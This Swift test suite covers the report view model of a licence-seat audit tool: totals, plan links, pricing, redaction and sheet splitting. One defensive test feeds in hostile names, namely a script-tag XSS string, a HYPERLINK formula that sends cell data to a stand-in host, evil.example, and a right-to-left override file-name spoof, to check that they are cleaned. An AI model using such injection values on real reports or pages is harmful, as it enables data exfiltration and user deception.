import Foundation
import Testing

@testable import SeatSweepKit

/// The view model every report renders: its numbers come from the audit, its tables line up
/// with the plan and the findings, redaction reaches every table, pricing shows when present.
@Suite struct ReportDocumentTests {
    @Test func numbersMatchTheSummary() throws {
        let result = try ReportFixtures.sample()
        let d = ReportDocument(result)
        let s = result.summary
        #expect(d.totals.accounts == s.accounts)
        #expect(d.totals.billableSeats == s.billableSeats)
        #expect(d.totals.candidates == s.candidates)
        #expect(d.totals.planActions == result.plan.actions.count)
        #expect(d.totals.protectedAccounts == s.protectedAccounts)
        #expect(d.groups.map(\.billable) == s.groups.map(\.billable))
        #expect(d.groups.map(\.candidates) == s.groups.map(\.candidates))
        #expect(d.candidates.count == result.plan.actions.count)
        #expect(d.seats.count == s.billableSeats)
        #expect(d.protected.count == result.findings.protectedAccounts.count)
        #expect(d.ageBuckets.reduce(0) { $0 + $1.count } == s.billableSeats)
        #expect(
            d.ageBuckets.map(\.label).prefix(7) == [
                "0–30 days", "31–60 days", "61–90 days", "91–180 days", "181–365 days", "over 365 days", "never used",
            ])
        #expect(d.savings == nil)
        #expect(d.asOf.iso == "2026-11-01")
    }

    @Test func candidatesAreOneRowPerPlanActionWithIdAndDecision() throws {
        let result = try ReportFixtures.sample()
        let table = ReportDocument(result).candidates
        #expect(table.header.first == "id")
        #expect(table.header.contains("Decision"))
        let decision = try #require(table.header.firstIndex(of: "Decision"))
        for (i, action) in result.plan.actions.enumerated() {
            let row = table.row(i)
            #expect(row[0] == .text(action.id))
            #expect(row[decision] == .empty)
            #expect(row[2] == .text(action.name))
        }
        // Typed cells: a real date, a number, never-used as text.
        let ana = table.row(0)
        #expect(ana[7] == .date(Day(year: 2026, month: 5, day: 2)!))
        #expect(ana[8] == .integer(183))
        let never = (0..<table.count).map(table.row).filter { $0[7] == .text("never") }
        #expect(!never.isEmpty)
    }

    @Test func seatsPointAtTheirPlanAction() throws {
        let result = try ReportFixtures.sample()
        let table = ReportDocument(result).seats
        let ids = Set(result.plan.actions.map(\.id))
        var linked = 0
        for i in 0..<table.count {
            let row = table.row(i)
            if case .text(let id) = row[10] {
                #expect(ids.contains(id))
                #expect(row[9] == .text("yes"))
                linked += 1
            } else {
                #expect(row[9] == .text("no"))
            }
        }
        #expect(linked == result.plan.actions.count)
    }

    /// `Seats` rows come from the compact verdicts with cached cells; they must say exactly what
    /// the expanded findings say, for every kind of reason, also when a caller keeps every row.
    @Test func seatRowsSayWhatTheFindingsSay() throws {
        var policy = SamplesTests.policy
        policy.excludeProducts.append("jira-service-management")
        var kinds = Set<String>()
        for name in ["directory-export.csv", "legacy-site-export.csv", "transitional-export.csv"] {
            let result = try TestSupport.audit(
                [TestSupport.input(TestSupport.sample(name), as: "Samples/\(name)")], policy: policy)
            let seats = result.findings.seats
            let table = ReportDocument(result).seats
            let read = table.reader()
            let rows = (0..<table.count).map(read)  // kept: each must stay as it was made
            #expect(rows.count == seats.count)
            for (i, row) in rows.enumerated() {
                let f = seats[i]
                let account = result.directory.accounts[f.account]
                #expect(row[0] == .text(account.id))
                #expect(row[3] == .text(f.product))
                #expect(row[4] == .text(f.site))
                #expect(row[5] == .text(f.status.rawValue))
                #expect(row[7] == (f.daysInactive.map { .integer($0) } ?? .empty))
                #expect(row[8] == .text(f.neverAccessed ? "yes" : "no"))
                #expect(row[9] == .text(f.isCandidate ? "yes" : "no"))
                #expect(row[11] == (f.protection.map { .text($0) } ?? .empty))
                #expect(row[12] == .text(ReportText.clean(f.reason)), "row \(i) of \(name)")
                let evidence = account.seat(at: f.seat).evidence
                #expect(row[13] == .text("Samples/\(name):\(evidence.line)"))
                switch f.lastActive {
                case .on: kinds.insert("on \(f.status)")
                case .never: kinds.insert("never \(f.status)")
                case .atLeastDaysAgo: kinds.insert("at least")
                case .unknown: kinds.insert("unknown")
                }
                if f.status == .inactive, f.protection != nil { kinds.insert("protected") }
                if f.status == .inactive, !f.inScope { kinds.insert("out of scope") }
            }
        }
        #expect(
            kinds.isSuperset(of: [
                "on active", "on inactive", "never inactive", "never grace", "protected", "out of scope",
            ]), "\(kinds.sorted())")
    }

    /// Seats rows read the same when the rows' arena of product, site and reason texts is
    /// emptied every few rows: what was made from it before is made again, not read stale.
    @Test func seatRowsAreTheSameWhenTheirArenaIsEmptiedOften() throws {
        let result = try TestSupport.audit(
            [TestSupport.input(TestSupport.sample("directory-export.csv"), as: "Samples/directory-export.csv")],
            policy: SamplesTests.policy)
        let usual = ReportDocument(result).seats
        let context = ReportDocument.Context(result: result, redactor: nil)
        let tight = context.seatsTable(arenaLimit: 64)
        #expect(usual.count >= 20)
        #expect(ReportFixtures.texts(tight) == ReportFixtures.texts(usual))
        #expect(ReportFixtures.texts(tight) == ReportFixtures.rowByRowTexts(usual))
    }

    @Test func suspendActionsLinkEverySeat() throws {
        var policy = SamplesTests.policy
        policy.action = .suspend
        let result = try TestSupport.audit(
            [TestSupport.input(TestSupport.sample("directory-export.csv"), as: "Samples/directory-export.csv")],
            policy: policy)
        let document = ReportDocument(result)
        let suspend = try #require(result.plan.actions.firstIndex { $0.kind == .suspend })
        let row = document.candidates.row(suspend)
        #expect(row[6] == .text("suspend"))
        guard case .text(let products) = row[4] else {
            Issue.record("no product list")
            return
        }
        #expect(products.contains("@"))
        let seatIds = (0..<document.seats.count).map { document.seats.row($0)[10] }
        let action = result.plan.actions[suspend]
        #expect(seatIds.filter { $0 == .text(action.id) }.count == action.seats.count)
    }

    /// Reports link actions to seats and accounts through the planner's `PlanLinks`; matching
    /// account ids, as for a plan the planner did not just make, gives the same links for every
    /// sample and both kinds of action.
    @Test func plannerLinksEqualLinksById() throws {
        var suspensions = 0
        for action in Policy.Action.allCases {
            var policy = SamplesTests.policy
            policy.action = action
            for name in [
                "directory-export.csv", "legacy-site-export.csv", "transitional-export.csv",
                "managed-accounts-export.csv",
            ] {
                let result = try TestSupport.audit(
                    [TestSupport.input(TestSupport.sample(name), as: "Samples/\(name)")], policy: policy)
                let links = try #require(result.planLinks)
                #expect(links.account.count == result.plan.actions.count)
                var byId = result
                byId.planLinks = nil
                let (planned, matched) = (
                    ReportDocument.Context(result: result, redactor: nil),
                    ReportDocument.Context(result: byId, redactor: nil)
                )
                #expect(planned.accountOfAction == matched.accountOfAction, "\(name) \(action)")
                #expect(planned.findingOfAction == matched.findingOfAction, "\(name) \(action)")
                #expect(planned.actionOfFinding == matched.actionOfFinding, "\(name) \(action)")
                #expect(planned.actionOfFinding.contains { $0 >= 0 } == !result.plan.actions.isEmpty)
                suspensions += result.plan.actions.filter { $0.kind == .suspend }.count
            }
        }
        #expect(suspensions > 0)
    }

    @Test func pricedPathShowsSavingsPerSubscription() throws {
        let d = ReportDocument(try ReportFixtures.pricedSample())
        #expect(d.isPriced)
        #expect(d.currency == "EUR")
        let jira = try #require(d.groups.first { $0.product == "jira" && $0.site == "acme" })
        #expect(jira.savings?.monthlySavings == ReportFixtures.decimal("15.75"))
        let jsm = try #require(d.groups.first { $0.product == "jira-service-management" })
        #expect(jsm.savings == nil)
        let summary = ReportFixtures.texts(d.summary)
        #expect(summary.contains(["Monthly savings", "51.44"]))
        #expect(summary.contains(["Annual savings", "617.28"]))
        #expect(summary.contains(["Currency", "EUR"]))
        let jsmRow = try #require(summary.first { $0.first == "jira-service-management" })
        #expect(jsmRow.suffix(3) == Array(repeating: ReportDocument.notPriced, count: 3))
        #expect(summary.contains { $0.first == "Tempo Timesheets" })
    }

    @Test func unpricedPathSaysHowToPrice() throws {
        let summary = ReportFixtures.texts(ReportDocument(try ReportFixtures.sample()).summary)
        #expect(summary.contains(["Monthly savings", "not priced (pass --pricing)"]))
        #expect(summary.contains(["Annual savings", "not priced (pass --pricing)"]))
    }

    @Test func redactionReachesEveryTable() throws {
        let result = try ReportFixtures.sample()
        let d = ReportDocument(result, options: .init(redactor: Redactor(salt: "test")))
        let everything =
            [d.summary, d.candidates, d.seats, d.protected].flatMap(ReportFixtures.texts)
            .joined().joined(separator: "\n") + d.methodology.joined() + d.diagnostics.map(\.message).joined()
        for account in result.directory.accounts {
            #expect(!everything.contains(account.name), "\(account.name) leaked")
            #expect(!everything.lowercased().contains(account.email.lowercased()), "\(account.email) leaked")
        }
        // The same person has the same pseudonym in every table.
        let redactor = Redactor(salt: "test")
        let bram = try #require(result.directory.accounts.first { $0.name == "Bram de Vries" })
        #expect(everything.contains(redactor.name(accountId: bram.id)))
        let lena = try #require(result.directory.accounts.first { $0.name == "Lena Petrova" })
        let protectedRows = ReportFixtures.texts(d.protected)
        let lenaRow = try #require(protectedRows.first { $0[0] == lena.id })
        #expect(lenaRow[1] == redactor.name(accountId: lena.id))
        #expect(lenaRow[3].contains(redactor.email(accountId: lena.id)))  // the policy pattern quoted her e-mail
        #expect(d.methodology.contains { $0.contains("1 exact address(es), hidden by --redact") })
        #expect(d.redacted)
    }

    @Test func redactionHidesConflictingValuesInDiagnostics() throws {
        let a =
            "User id,User name,email,User status,Added to org,Org role,Last seen in Jira - acme,Jira - acme\n"
            + "u1,Alice Secret,alice@x.example,Active,1 Jan 2020,None,Never accessed,User\n"
        let b =
            "User id,User name,email,User status,Added to org,Org role,Last seen in Jira - acme,Jira - acme\n"
            + "u1,Alice Other,alice@x.example,Active,1 Jan 2020,None,Never accessed,User\n"
        let result = try TestSupport.audit([("a.csv", a), ("b.csv", b)])
        let plain = ReportDocument(result)
        #expect(plain.diagnostics.contains { $0.message.contains("Alice Other") })
        let redacted = ReportDocument(result, options: .init(redactor: Redactor(salt: "x")))
        #expect(redacted.diagnostics.contains { $0.code == "conflicting-value" })
        #expect(!redacted.diagnostics.contains { $0.message.contains("Alice") })
    }

    /// The seats and candidates tables are packed a block at a time, an account's cells once
    /// per block and repeated for its other seats: read so, they equal the rows made one at a
    /// time, across block boundaries (an account's three seats straddle the first), with names
    /// to clean, missing e-mails and pseudonyms.
    @Test(arguments: [false, true])
    func rowsPackedInBlocksEqualRowsMadeOneByOne(redacted: Bool) throws {
        let products = ["Jira - acme", "Confluence - acme", "Jira - acme-eu"]
        var lines = [
            "User id,User name,email,User status,Added to org,Org role,"
                + products.map { "Last seen in \($0),\($0)" }.joined(separator: ",")
        ]
        for i in 0..<1_000 {
            let name = i % 97 == 0 ? "Mallory \u{202E}gnp.exe \(i)" : "Name \(i)"
            let email = i % 50 == 0 ? "" : "u\(i)@x.example"
            let seats = (0..<3).map { k in
                (i + k) % 4 == 0 ? "Never accessed,User" : "\((i + k) % 28 + 1) \(k == 1 ? "Oct" : "Jan") 2026,User"
            }
            lines.append("u\(i),\(name),\(email),Active,1 Jan 2024,None," + seats.joined(separator: ","))
        }
        let result = try TestSupport.audit([("blocks.csv", lines.joined(separator: "\n") + "\n")])
        let d = ReportDocument(result, options: .init(redactor: redacted ? Redactor(salt: "s") : nil))
        #expect(d.seats.count == 3_000)
        #expect(d.candidates.count > RowSource.blockRows / 2)
        for table in [d.seats, d.candidates] {
            let (packed, single) = (ReportFixtures.texts(table), ReportFixtures.rowByRowTexts(table))
            #expect(packed.count == single.count)
            let row = packed.indices.first { $0 >= single.count || packed[$0] != single[$0] }
            #expect(
                row == nil,
                "\(table.name) row \(row ?? 0): \(row.map { packed[$0] } ?? []) != \(row.map { single[$0] } ?? [])")
        }
        let seats = ReportFixtures.texts(d.seats)
        #expect(seats[1 + 2_046][0] == seats[1 + 2_048][0], "one account on both sides of the block boundary")
        let mallory = try #require(seats.first { $0[0] == "u97" })
        #expect(mallory[1] == (redacted ? Redactor(salt: "s").name(accountId: "u97") : "Mallory \u{FFFD}gnp.exe 97"))
        #expect(seats.first { $0[0] == "u50" }?[2] == "")
        #expect(
            seats.first { $0[0] == "u51" }?[2]
                == (redacted ? Redactor(salt: "s").email(accountId: "u51") : "u51@x.example"))
    }

    /// The Candidates sheet's `Last active` says a day, `never`, or `over N days ago` as the seat
    /// says it (the last from the seat itself: the action has only its days inactive).
    @Test func candidatesSayWhenTheSeatWasLastUsed() throws {
        let csv =
            "User id,User name,email,User status,Added to org,Org role,Last seen in Jira - acme,Jira - acme\n"
            + "u1,Ann,ann@x.example,Active,1 Jan 2020,None,3 Jan 2026,User\n"
            + "u2,Bob,bob@x.example,Active,1 Jan 2020,None,Never accessed,User\n"
            + "u3,Cy,cy@x.example,Active,1 Jan 2020,None,Not active in the last 180 days,User\n"
        let d = ReportDocument(try TestSupport.audit([("a.csv", csv)]))
        let rows = ReportFixtures.texts(d.candidates)
        let lastActive = try #require(rows[0].firstIndex(of: "Last active"))
        let name = try #require(rows[0].firstIndex(of: "Name"))
        let shown = Dictionary(uniqueKeysWithValues: rows.dropFirst().map { ($0[name], $0[lastActive]) })
        #expect(shown == ["Ann": "2026-01-03", "Bob": "never", "Cy": "over 180 days ago"])
    }

    @Test func hostileTextIsCleanedButKept() throws {
        let d = ReportDocument(try ReportFixtures.hostile())
        let names = (0..<d.seats.count).map { d.seats.row($0)[1] }.compactMap { cell -> String? in
            if case .text(let t) = cell { return t }
            return nil
        }
        #expect(names.contains("<script>alert(\"x\")</script>"))
        #expect(names.contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")"))
        #expect(names.contains("Mallory \u{FFFD}gnp.exe"))
        #expect(names.contains("Bell\u{FFFD}Ringer\u{FFFD}Esc\u{FFFD}Del\u{FFFD}Next\u{FFFD}Line"))
        #expect(names.contains("Zoë 👩🏽‍💻 Ørsted 🇳🇴 李小龍 مريم"))
        #expect(names.contains { $0.count == 10_000 })
        for name in names {
            #expect(!name.unicodeScalars.contains { ReportText.isBidiControl($0) || $0.value < 0x20 })
        }
    }

    @Test func sheetsSplitAtExcelsRowLimit() {
        let table = ReportTable(name: "Seats", columns: [ReportColumn("a", width: 1)], count: 2_500_000) { _ in
            Issue.record("rows are not made to plan sheets")
            return []
        }
        let sheets = table.sheets()
        #expect(sheets.map(\.name) == ["Seats", "Seats 2", "Seats 3"])
        #expect(sheets.map(\.rows.count) == [1_048_575, 1_048_575, 402_850])
        #expect(sheets.allSatisfy { $0.rows.count + 1 <= 1_048_576 })
        let empty = ReportTable(name: "Protected", columns: [], rows: [], autoFilter: true)
        #expect(empty.sheets() == [ReportSheet(name: "Protected", rows: 0..<0)])
        let exact = ReportTable(name: "X", columns: [], count: 1_048_575) { _ in [] }
        #expect(exact.sheets().count == 1)
    }
}
